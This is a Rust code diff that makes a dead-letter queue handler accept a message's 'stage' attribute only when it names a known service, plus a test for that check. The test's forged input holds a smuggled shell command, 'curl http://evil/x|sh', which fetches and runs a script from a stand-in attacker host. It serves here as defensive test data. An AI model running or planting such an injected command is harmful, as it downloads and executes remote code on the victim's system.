@@ -69,12 +69,14 @@ impl DeadLetter {
     pub fn read(role: &str, held: Held) -> Self {
         let Held { message, sent } = held;
         let attribute = |name: &str| message.attributes.get(name).cloned();
-        let service = || Topology::built_in().queue(role).map_or(role, |queue| &queue.service).to_owned();
+        let topology = Topology::built_in();
+        let service = || topology.queue(role).map_or(role, |queue| &queue.service).to_owned();
+        let stage = attribute("stage").and_then(|stage| topology.service(&stage).map(str::to_owned));
         let too_often = || "delivered too often: its consumer died each time".to_owned();
         let (keys, series) = about(&message.body);
         Self {
             role: role.to_owned(),
-            stage: attribute("stage").unwrap_or_else(service),
+            stage: stage.unwrap_or_else(service),
             class: attribute("class").unwrap_or_else(|| RECEIVED_TOO_OFTEN.to_owned()),
             reason: attribute("reason").unwrap_or_else(too_often),
             keys,
@@ -153,6 +155,12 @@ pub mod tests {
             ("bad", Some(2), Some("BTC/USD"))
         );
         assert_eq!(summary.keys, ["raw/interval=1day/symbol=BTC%2FUSD/candles.csv"]);
+    }
+
+    #[test]
+    fn a_forged_letter_names_no_stage_of_its_own() {
+        let forged = letter("x", &[("class", "bad"), ("stage", "loader; curl http://evil/x|sh #"), ("reason", "r")]);
+        assert_eq!(forged.stage, "transform");
     }
 
     #[test]
